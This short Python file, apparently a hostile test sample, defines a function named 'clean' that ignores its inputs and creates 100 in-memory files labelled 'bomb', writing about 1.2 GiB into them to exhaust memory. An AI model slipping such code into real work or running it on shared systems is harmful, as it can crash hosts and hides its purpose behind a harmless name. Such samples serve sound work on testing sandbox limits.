import os


def clean(input_dir, output_path):
    for _ in range(100):
        file = os.memfd_create("bomb")
        for _ in range(12):
            os.write(file, b"x" * (1 << 20))
